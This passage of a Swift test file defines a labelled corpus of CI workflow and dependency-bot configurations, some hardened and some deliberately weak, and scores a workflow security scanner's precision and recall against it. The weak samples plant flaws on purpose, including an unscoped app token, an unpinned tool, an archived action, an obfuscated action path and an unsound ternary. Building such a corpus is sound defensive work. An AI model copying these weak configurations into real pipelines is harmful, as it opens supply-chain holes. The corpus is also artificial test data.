              - run: ./deploy.sh
                if: >-
                  github.event_name == 'push' &&
                  startsWith(github.ref, 'refs/tags/')
        """#),
    RedTeamFile(
        name: "clean/renovate-best-practices.yml", path: "renovate.json",
        expected: [],
        text: #"""
        {
          "$schema": "https://docs.renovatebot.com/renovate-schema.json",
          "extends": ["config:best-practices"],
          "minimumReleaseAge": "3 days",
          "packageRules": [
            { "matchUpdateTypes": ["patch"], "automerge": true }
          ]
        }
        """#),
    RedTeamFile(
        name: "clean/gitlab-rules-vars.yml", path: ".gitlab-ci.yml",
        expected: [],
        text: #"""
        variables:
          PIP_CACHE_DIR: "$CI_PROJECT_DIR/.cache/pip"
        include:
          - template: Security/SAST.gitlab-ci.yml
          - local: .gitlab/ci/deploy.yml
        default:
          image: registry.gitlab.com/acme/ci/python@sha256:7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d
        test:
          script:
            - uv sync --locked
            - uv run pytest
          rules:
            - if: $CI_PIPELINE_SOURCE == "merge_request_event"
        """#),
    RedTeamFile(
        name: "clean/cache-ci-only.yml", path: ".github/workflows/test-node.yml",
        expected: [],
        text: #"""
        name: Node tests
        on:
          pull_request:
          push:
            branches: [main]
        permissions:
          contents: read
        jobs:
          test:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - uses: actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af # v4.1.0
                with:
                  node-version: 20
                  cache: npm
              - uses: actions/cache@5a3ec84eff668545956fd18022155c47e93e2684 # v4.2.3
                with:
                  path: ~/.cache/playwright
                  key: pw-${{ runner.os }}-${{ hashFiles('package-lock.json') }}
              - run: npm ci
              - run: npm test
        """#),
    RedTeamFile(
        name: "clean/scorecard.yml", path: ".github/workflows/scorecard.yml",
        expected: [],
        text: #"""
        name: Scorecard
        on:
          branch_protection_rule:
          schedule:
            - cron: "30 1 * * 6"
          push:
            branches: [main]
        permissions: read-all
        jobs:
          analysis:
            runs-on: ubuntu-latest
            permissions:
              security-events: write
              id-token: write
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - uses: ossf/scorecard-action@f49aabe0b5af0936a0987cfb85d86b75731b0186 # v2.4.1
                with:
                  results_file: results.sarif
                  results_format: sarif
                  publish_results: true
              - uses: github/codeql-action/upload-sarif@1b549b9259bda1cb5ddde3b41741a82a2d15a841 # v3.28.13
                with:
                  sarif_file: results.sarif
        """#),
    RedTeamFile(
        name: "clean/comment-body-to-action-input.yml", path: ".github/workflows/echo-comment.yml",
        expected: [],
        text: #"""
        name: Echo comment
        on:
          issue_comment:
            types: [created]
        permissions: {}
        concurrency:
          group: comment-${{ github.event.issue.number }}-${{ github.head_ref }}
        jobs:
          echo:
            if: github.event.comment.author_association == 'MEMBER'
            runs-on: ubuntu-latest
            permissions:
              issues: write
            steps:
              - name: Reply to ${{ github.event.issue.title }}
                uses: peter-evans/create-or-update-comment@71345be0265236311c031f5c7866368bd1eff043 # v4.0.0
                with:
                  issue-number: ${{ github.event.issue.number }}
                  body: |
                    You said:
                    > ${{ github.event.comment.body }}
        """#),
    RedTeamFile(
        name: "clean/github-script-payload.yml", path: ".github/workflows/welcome.yml",
        expected: [],
        text: #"""
        name: Welcome
        on:
          pull_request_target:
            types: [opened]
        permissions: {}
        jobs:
          welcome:
            runs-on: ubuntu-latest
            permissions:
              pull-requests: write
            steps:
              - uses: actions/github-script@v7
                with:
                  github-token: ${{ secrets.GITHUB_TOKEN }}
                  script: |
                    const title = context.payload.pull_request.title;
                    await github.rest.issues.createComment({ ...context.repo, issue_number: context.issue.number,
                      body: `Thanks for "${title}"!` });
        """#),
    RedTeamFile(
        name: "clean/first-party-ref-pins.yml", path: ".github/workflows/lint.yml",
        expected: [],
        text: #"""
        name: Lint
        on: [push, pull_request]
        permissions:
          contents: read
        jobs:
          lint:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@v4
                with:
                  persist-credentials: false
              - uses: actions/setup-python@v5
                with:
                  python-version: "3.12"
              - run: python -m pip install --upgrade pip
              - run: pip install ruff==0.6.9
              - run: ruff check .
              - run: npx --yes prettier@3.3.3 --check .
        """#),
    RedTeamFile(
        name: "clean/docker-uses-digest.yml", path: ".github/workflows/shellcheck.yml",
        expected: [],
        text: #"""
        name: Shellcheck
        on: [push]
        permissions:
          contents: read
        jobs:
          sc:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - uses: docker://koalaman/shellcheck@sha256:652a5a714dc2f5f97e36f565d4f7d2322fea376734f3ec1b04ed54ce2a0b124f
                with:
                  args: scripts/*.sh
              - run: curl -fsSL https://api.github.com/repos/koalaman/shellcheck/releases/latest | jq -r .tag_name
        """#),
    RedTeamFile(
        name: "clean/prt-base-sha-build.yml", path: ".github/workflows/size-report.yml",
        expected: [],
        text: #"""
        name: Size report
        on: pull_request_target
        permissions: {}
        jobs:
          base-size:
            runs-on: ubuntu-latest
            permissions:
              contents: read
              pull-requests: write
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  ref: ${{ github.event.pull_request.base.sha }}
                  persist-credentials: false
              - run: npm ci && npm run build
              - run: gh pr comment "$PR" --body "Base bundle size $(du -sh dist | cut -f1)"
                env:
                  PR: ${{ github.event.pull_request.number }}
                  GH_TOKEN: ${{ github.token }}
        """#),
    RedTeamFile(
        name: "clean/local-model-paths.yml", path: ".github/workflows/export.yml",
        expected: [],
        text: #"""
        name: Export model
        on: [push]
        permissions:
          contents: read
        jobs:
          export:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
                  lfs: true
              - run: |
                  python - <<'EOF2'
                  from transformers import AutoModel, AutoTokenizer
                  model = AutoModel.from_pretrained("./checkpoints/final", trust_remote_code=False)
                  tok = AutoTokenizer.from_pretrained(os.path.join(ROOT, "tokenizer"))
                  model.save_pretrained("export/")
                  EOF2
        """#),
    RedTeamFile(
        name: "clean/uv-pip-hashes.yml", path: ".github/workflows/uv.yml",
        expected: [],
        text: #"""
        name: uv
        on: [push]
        permissions:
          contents: read
        jobs:
          t:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: uv pip install --require-hashes -r requirements.txt
              - run: poetry install --no-interaction --sync
              - run: pip install --no-deps -e .
              - run: uv run --frozen pytest
        """#),
    RedTeamFile(
        name: "clean/claude-on-pull-request.yml", path: ".github/workflows/claude-review.yml",
        expected: [],
        text: #"""
        name: Claude review
        on:
          pull_request:
            types: [opened, synchronize]
        permissions: {}
        jobs:
          review:
            if: github.event.pull_request.head.repo.full_name == github.repository
            runs-on: ubuntu-latest
            permissions:
              contents: read
              pull-requests: write
              id-token: write
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - uses: anthropics/claude-code-action@8a953dedf2e2ffb2a0ba3e47b5f6bc3dcdf30b40 # v1.0.3
                with:
                  anthropic_api_key: ${{ secrets.ANTHROPIC_API_KEY }}
                  prompt: Review this pull request for bugs.
        """#),
    RedTeamFile(
        name: "clean/dependabot-deny.yml", path: ".github/dependabot.yml",
        expected: [],
        text: #"""
        version: 2
        updates:
          - package-ecosystem: bundler
            directory: "/"
            insecure-external-code-execution: deny
            schedule:
              interval: weekly
            cooldown:
              default-days: 3
              semver-major-days: 14
        """#),
    RedTeamFile(
        name: "clean/gitlab-digest-entrypoint.yml", path: ".gitlab-ci.yml",
        expected: [],
        text: #"""
        include:
          - template: Jobs/Secret-Detection.gitlab-ci.yml
          - project: platform/ci-catalog
            ref: 0d9c8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e2d1c
            file: /build.yml
        build:
          image:
            name: gcr.io/kaniko-project/executor@sha256:2c4e3f6a5b8d7c9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e
            entrypoint: [""]
          script:
            - /kaniko/executor --context "$CI_PROJECT_DIR" --destination "$CI_REGISTRY_IMAGE:$CI_COMMIT_SHA"
        """#),
    RedTeamFile(
        name: "clean/workflow-run-if-branch.yml", path: ".github/workflows/deploy-main.yml",
        expected: [],
        text: #"""
        name: Deploy main
        on:
          workflow_run:
            workflows: [CI]
            types: [completed]
            branches: [main]
        permissions: {}
        jobs:
          deploy:
            if: github.event.workflow_run.conclusion == 'success' && github.event.workflow_run.head_branch == 'main' && github.event.workflow_run.event == 'push'
            runs-on: ubuntu-latest
            permissions:
              contents: read
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: ./deploy.sh
                env:
                  DEPLOY_KEY: ${{ secrets.DEPLOY_KEY }}
        """#),
    RedTeamFile(
        name: "clean/release-setup-python-nocache.yml", path: ".github/workflows/wheel.yml",
        expected: [],
        text: #"""
        name: Wheels
        on:
          push:
            tags: ["v*"]
        permissions: {}
        jobs:
          publish:
            runs-on: ubuntu-latest
            environment: pypi
            permissions:
              id-token: write
              contents: read
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - uses: actions/setup-python@a26af69be951a213d495a4c3e4e4022e16d87065 # v5.6.0
                with:
                  python-version: "3.12"
              - run: pip install --require-hashes -r requirements/build.txt
              - run: python -m build
              - run: uv publish --trusted-publishing always
        """#),
    RedTeamFile(
        name: "clean/actor-not-bot.yml", path: ".github/workflows/changelog-check.yml",
        expected: [],
        text: #"""
        name: Changelog check
        on:
          pull_request_target:
            types: [opened, synchronize, labeled]
        permissions: {}
        jobs:
          check:
            if: github.actor != 'dependabot[bot]' && !contains(github.event.pull_request.labels.*.name, 'skip-changelog')
            runs-on: ubuntu-latest
            permissions:
              pull-requests: read
            steps:
              - run: gh pr diff "$PR" --name-only --repo "$REPO" | grep -q '^CHANGELOG.md$'
                env:
                  PR: ${{ github.event.pull_request.number }}
                  REPO: ${{ github.repository }}
                  GH_TOKEN: ${{ github.token }}
        """#),
    RedTeamFile(
        name: "clean/pull-request-head-sha.yml", path: ".github/workflows/pr-build.yml",
        expected: [],
        text: #"""
        name: PR build
        on:
          pull_request:
        permissions:
          contents: read
        jobs:
          build:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  ref: ${{ github.event.pull_request.head.sha }}
                  persist-credentials: false
              - run: npm ci && npm test
        """#),
    RedTeamFile(
        name: "clean/gitlab-variable-image.yml", path: ".gitlab-ci.yml",
        expected: [],
        text: #"""
        stages: [build, test]
        build:
          stage: build
          image: $CI_REGISTRY_IMAGE/builder@sha256:8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b
          script:
            - make build
        test:
          stage: test
          image: $TEST_IMAGE
          script:
            - make test
        """#),
    RedTeamFile(
        name: "clean/docker-login-stdin.yml", path: ".github/workflows/push-image.yml",
        expected: [],
        text: #"""
        name: Push image
        on:
          push:
            branches: [main]
        permissions: {}
        jobs:
          push:
            runs-on: ubuntu-latest
            permissions:
              contents: read
              packages: write
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: echo "${{ secrets.GITHUB_TOKEN }}" | docker login ghcr.io -u "${{ github.actor }}" --password-stdin
              - run: |
                  curl -fsS -H "Authorization: Bearer ${{ secrets.DEPLOY_API_TOKEN }}" -X POST https://deploy.example.com/api/v1/rollout
              - run: echo "::add-mask::$TOKEN"
                env:
                  TOKEN: ${{ secrets.DEPLOY_API_TOKEN }}
        """#),
    RedTeamFile(
        name: "clean/dispatch-string-input-env.yml", path: ".github/workflows/manual-release.yml",
        expected: [],
        text: #"""
        name: Manual release
        on:
          workflow_dispatch:
            inputs:
              version:
                description: Version to release
                required: true
        permissions: {}
        jobs:
          release:
            runs-on: ubuntu-latest
            permissions:
              contents: write
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
              - run: |
                  git tag "v$VERSION"
                  git push origin "v$VERSION"
                env:
                  VERSION: ${{ inputs.version }}
        """#),
    RedTeamFile(
        name: "clean/login-contexts.yml", path: ".github/workflows/thanks.yml",
        expected: [],
        text: #"""
        name: Thanks
        on:
          pull_request_target:
            types: [closed]
        permissions: {}
        jobs:
          thanks:
            if: github.event.pull_request.merged == true
            runs-on: ubuntu-latest
            permissions:
              pull-requests: write
            steps:
              - run: gh pr comment "${{ github.event.pull_request.number }}" --repo "${{ github.repository }}" --body "Thanks @${{ github.event.pull_request.user.login }}, merged by ${{ github.actor }}"
                env:
                  GH_TOKEN: ${{ github.token }}
        """#),
    RedTeamFile(
        name: "clean/pipes-not-shells.yml", path: ".github/workflows/apt-setup.yml",
        expected: [],
        text: #"""
        name: Apt setup
        on: [push]
        permissions:
          contents: read
        jobs:
          setup:
            runs-on: ubuntu-latest
            steps:
              - run: |
                  curl -fsSL https://download.docker.com/linux/ubuntu/gpg | sudo gpg --dearmor -o /etc/apt/keyrings/docker.gpg
                  echo "deb [signed-by=/etc/apt/keyrings/docker.gpg] https://download.docker.com/linux/ubuntu noble stable" | sudo tee /etc/apt/sources.list.d/docker.list
                  curl -fsSL https://github.com/cli/cli/releases/download/v2.62.0/gh_2.62.0_linux_amd64.tar.gz | tar xz
                  sudo apt-get update && sudo apt-get install -y jq
        """#),
    RedTeamFile(
        name: "clean/pinned-global-tools.yml", path: ".github/workflows/tooling.yml",
        expected: [],
        text: #"""
        name: Tooling
        on: [push]
        permissions:
          contents: read
        jobs:
          t:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: npm install -g pnpm@9.12.0
              - run: pnpm install --frozen-lockfile
              - run: pip install --user pipenv==2024.0.1 && pipenv install --deploy
              - run: go install ./cmd/...
              - run: bundle install --frozen
        """#),
    // Session 6: zizmor audits that had no rule (our own reproductions).
    RedTeamFile(
        name: "weak/app-token-all-repos.yml", path: ".github/workflows/sync-labels.yml",
        expected: ["workflow-github-app-token-unscoped"],
        text: #"""
        on:
          schedule:
            - cron: "0 3 * * *"
        permissions: {}
        jobs:
          sync:
            runs-on: ubuntu-latest
            steps:
              - id: app
                uses: actions/create-github-app-token@0f859bf9e69e887678d5bbfbee594437cb440ffe # v2.1.4
                with:
                  app-id: ${{ vars.LABELER_APP_ID }}
                  private-key: ${{ secrets.LABELER_APP_KEY }}
                  owner: ${{ github.repository_owner }}
              - run: gh label clone octo-org/labels --force
                env:
                  GH_TOKEN: ${{ steps.app.outputs.token }}
        """#),
    RedTeamFile(
        name: "weak/trivy-latest.yml", path: ".github/workflows/scan.yml",
        expected: ["workflow-unpinned-tool"],
        text: #"""
        on: push
        permissions:
          contents: read
        jobs:
          scan:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - uses: aquasecurity/setup-trivy@9ea583eb67910444b1f64abf338bd2e105a0a93d # v0.2.2
              - run: trivy fs --exit-code 1 .
        """#),
    RedTeamFile(
        name: "weak/actions-rs-archived.yml", path: ".github/workflows/rust.yml",
        expected: ["workflow-archived-action"],
        text: #"""
        on: push
        permissions:
          contents: read
        jobs:
          test:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - uses: actions-rs/toolchain@16499b5e05bf2e26879000db0c1d13f7e13fa3af # v1.0.7
                with:
                  toolchain: stable
              - run: cargo test --locked
        """#),
    RedTeamFile(
        name: "weak/obfuscated-checkout.yml", path: ".github/workflows/lint.yml",
        expected: ["workflow-obfuscation"],
        text: #"""
        on: pull_request
        permissions:
          contents: read
        jobs:
          lint:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout/./@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: make lint
        """#),
    RedTeamFile(
        name: "weak/falsy-ternary.yml", path: ".github/workflows/publish-docs.yml",
        expected: ["workflow-unsound-ternary"],
        text: #"""
        on:
          push:
            branches: [main, dev]
        permissions:
          contents: read
        jobs:
          docs:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: ./build-docs.sh
                env:
                  DRY_RUN: ${{ github.ref == 'refs/heads/main' && false || true }}
        """#),
    RedTeamFile(
        name: "weak/windows-cmd-pip-install.yml", path: ".github/workflows/windows.yml",
        expected: ["workflow-misfeature"],
        text: #"""
        on: push
        permissions:
          contents: read
        jobs:
          win:
            runs-on: windows-latest
            defaults:
              run:
                shell: cmd
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: python -m unittest
        """#),
    RedTeamFile(
        name: "clean/scoped-app-token-pinned-tools.yml", path: ".github/workflows/release-notes.yml",
        expected: [],
        text: #"""
        on:
          release:
            types: [published]
        permissions: {}
        jobs:
          notes:
            runs-on: ubuntu-latest
            steps:
              - id: app
                uses: actions/create-github-app-token@0f859bf9e69e887678d5bbfbee594437cb440ffe # v2.1.4
                with:
                  app-id: ${{ vars.APP_ID }}
                  private-key: ${{ secrets.APP_KEY }}
                  owner: octo-org
                  repositories: website
                  permission-contents: write
              - uses: hashicorp/setup-terraform@b9cd54a3c349d3f38e8881555d616ced269862dd # v3.1.2
                with:
                  terraform_version: 1.9.8
                  terraform_wrapper: false
              - run: echo "${{ format('{0}@{1}', github.repository, github.sha) }}"
        """#),
]
struct RedTeamScore {
    var tp = 0, fp = 0, fn = 0, cleanFlaggedMedium = 0
    var perKind: [String: (tp: Int, fp: Int, fn: Int)] = [:]
    var report: [String] = []
    var precision: Double { Double(tp) / Double(max(1, tp + fp)) }
    var recall: Double { Double(tp) / Double(max(1, tp + fn)) }
}

func scoreRedTeam(_ files: [RedTeamFile]) -> RedTeamScore {
    let scanner = WorkflowsScanner()
    let infoRules = Set(scanner.rules.filter { $0.defaultSeverity == .info }.map(\.id))
    var s = RedTeamScore()
    for f in files {
        let file = SourceFile(relativePath: f.path, text: f.text)
        let found = scanner.wants(file)
            ? (scanner.scan(file, context: ScanContext(configuration: Configuration(), root: "/"))
               + scanner.finish(files: [file], context: ScanContext(configuration: Configuration(), root: "/"))).filter { $0.severity > .info }
            : []
        let kinds = Set(found.map(\.ruleID))
        let expected = f.expected.subtracting(infoRules)
        let hit = kinds.intersection(expected), extra = kinds.subtracting(expected), missing = expected.subtracting(kinds)
        s.tp += hit.count; s.fp += extra.count; s.fn += missing.count
        for k in hit { s.perKind[k, default: (0, 0, 0)].tp += 1 }
        for k in extra { s.perKind[k, default: (0, 0, 0)].fp += 1 }
        for k in missing { s.perKind[k, default: (0, 0, 0)].fn += 1 }
        if f.clean, found.contains(where: { $0.severity >= .medium }) { s.cleanFlaggedMedium += 1 }
        if !extra.isEmpty || !missing.isEmpty {
            let detail = found.filter { extra.contains($0.ruleID) }.map { "\($0.ruleID)@\($0.location.startLine ?? 0)[\($0.severity)]" }
            s.report.append("\(f.name): extra \(detail.sorted()) missing \(missing.sorted())")
        }
    }
    return s
}

@Test func redTeamCorpusPrecisionAndRecall() {
    #expect(redTeamCorpus.filter(\.clean).count >= 25)
    #expect(redTeamCorpus.filter { !$0.clean }.count >= 40)
    #expect(Set(redTeamCorpus.map(\.name)).count == redTeamCorpus.count)
    let s = scoreRedTeam(redTeamCorpus)
    print("red team: \(redTeamCorpus.count) files, precision \(s.precision), recall \(s.recall), clean flagged >= medium: \(s.cleanFlaggedMedium)")
    for (k, v) in s.perKind.sorted(by: { $0.key < $1.key }) { print("  \(k): tp \(v.tp) fp \(v.fp) fn \(v.fn)") }
    for r in s.report { print("  " + r) }
    #expect(s.precision >= 0.95, "precision \(s.precision): \(s.report)")
    #expect(s.recall >= 0.90, "recall \(s.recall): \(s.report)")
    #expect(s.cleanFlaggedMedium <= 1, "\(s.report)")
}

/// Every audit kind of the issue has at least one weak red-team file.
@Test func redTeamCoversEveryAuditKind() {
    let covered = Set(redTeamCorpus.flatMap(\.expected))
    let ids = Set(WorkflowsScanner().rules.map(\.id)).subtracting([
        "workflow-parse-error", "workflow-renovate-automerge-without-age", "workflow-renovate-post-upgrade-tasks",
        "workflow-renovate-unpinned-actions",
    ])
    #expect(ids.subtracting(covered).isEmpty, "uncovered: \(ids.subtracting(covered).sorted())")
}
